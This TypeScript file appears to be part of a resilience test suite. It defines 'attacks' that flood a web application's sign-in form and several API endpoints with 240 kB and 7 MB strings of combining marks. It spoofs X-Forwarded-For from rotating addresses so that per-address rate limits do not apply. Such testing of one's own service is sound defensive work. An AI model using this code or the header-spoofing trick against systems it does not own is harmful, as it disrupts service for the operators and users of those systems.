import type { Attack, AttackCalls } from './attack.ts';
import { combiningMarks } from './combining.ts';

/** Each form comes from another address, so that no limit by address protects the rest of the path. */
const addressOf = (at: number): string => `198.${18 + (at % 2)}.${(at >> 8) % 256}.${at % 256}`;

const form = (
  calls: AttackCalls,
  path: string,
  fields: readonly (readonly [string, string])[],
  from: string,
) =>
  calls.call(path, {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'X-Forwarded-For': from },
    // Not percent-encoded, because that would triple the bytes. Forms are accepted without it, too.
    body: fields.map(([name, value]) => `${name}=${value}`).join('&'),
  });

function signInForms(name: string, bytes: number, size: string): Attack {
  return {
    name,
    what: `sign-in forms with ${size} of combining marks, from many addresses, without a login`,
    run(calls) {
      const marks = combiningMarks(bytes);
      return calls.again(4, (at) =>
        at % 2 === 0
          ? form(
              calls,
              '/account/sign-in',
              [
                ['email', `${marks}@x.example`],
                ['password', 'wrong password'],
              ],
              addressOf(at),
            )
          : form(
              calls,
              '/account/sign-in',
              [
                ['email', 'x@x.example'],
                ['password', marks],
              ],
              addressOf(at),
            ),
      );
    },
  };
}

export const smallForms = signInForms('sign-in-240k', 240_000, '240 kB');
export const largeForms = signInForms('sign-in-7m', 7_000_000, '7 MB');

/** The same text in an input of the API. */
export const longTexts: Attack = {
  name: 'long-texts',
  what: 'JSON bodies with 240 kB and 7 MB of combining marks as address, name and condition',
  run(calls, { contact_type_id }) {
    const texts = [combiningMarks(240_000), combiningMarks(7_000_000)];
    const bodies = (text: string) =>
      [
        ['/contacts/add', { contact_type_id, email: `${text}@x.example`, country: 1 }],
        [
          '/contacts/add',
          { contact_type_id, email: 'x@x.example', country: 1, first_name: text, city: text },
        ],
        ['/global-unsubscribes/save', { email_address: `x@x.example,${text}@x.example` }],
        ['/custom-fields/save', { field_name: text, field_type: 'text' }],
        [
          '/segment/preview',
          { contact_type_id, select_field: [text], select_operator: [text], value: [text] },
        ],
        [
          '/segment/preview',
          { contact_type_id, select_field: ['city'], select_operator: ['is'], value: [text] },
        ],
      ] as const;
    const all = texts.flatMap(bodies);
    return calls.again(4, (at) => {
      const [path, body] = all[at % all.length]!;
      return calls.api(path, body);
    });
  },
};
